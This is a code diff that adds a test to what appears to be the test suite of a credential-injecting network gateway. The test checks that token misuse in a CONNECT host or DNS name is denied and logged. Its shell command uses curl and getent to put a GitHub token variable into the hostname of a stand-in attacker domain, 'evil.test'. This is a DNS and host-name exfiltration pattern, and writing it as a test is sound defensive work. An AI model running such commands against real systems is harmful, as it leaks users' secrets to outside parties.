@@ -191,3 +191,17 @@ def test_real_clients_send_the_placeholder_and_upstream_gets_the_value(gatewrap,
     (rec,) = r.records(event="request", proto="https")
     assert (rec["decision"], rec["secret"]) == ("allowed", "github")
     no_value_written(r, tmp_path)
+
+
+def test_the_placeholder_in_a_connect_host_or_a_dns_name_is_recorded_as_misuse(gatewrap, net, tmp_path):
+    policy = tmp_path / "policy.toml"
+    policy.write_text(POLICY.replace("PLACE", 'as = "basic"'))
+    extra = ["--policy", str(policy), "--upstream-ca", net.ca_path, "--ca-dir", str(tmp_path / "ca")]
+    r = gatewrap(["/bin/sh", "-c", 'curl -sS -o /dev/null -w "%{http_code}\\n" --max-time 5 "https://$GITHUB_TOKEN.evil.test/"; '
+                  'getent hosts "$GITHUB_TOKEN.evil.test"; true'], extra=extra, unnamed={"GW_TEST_SECRET": VALUE})
+    assert r.returncode == 0, r.stderr
+    (conn,) = r.records(event="connect")
+    assert (conn["decision"], conn["secret"], conn["status"]) == ("denied", "github", 403), conn
+    assert conn["reason"] == "secret_misuse: the placeholder of secret github in the CONNECT host", conn
+    dns = [x for x in r.records(event="dns") if x.get("secret")]
+    assert dns and dns[0]["reason"] == "secret_misuse: the placeholder of secret github in the DNS name", r.records(event="dns")
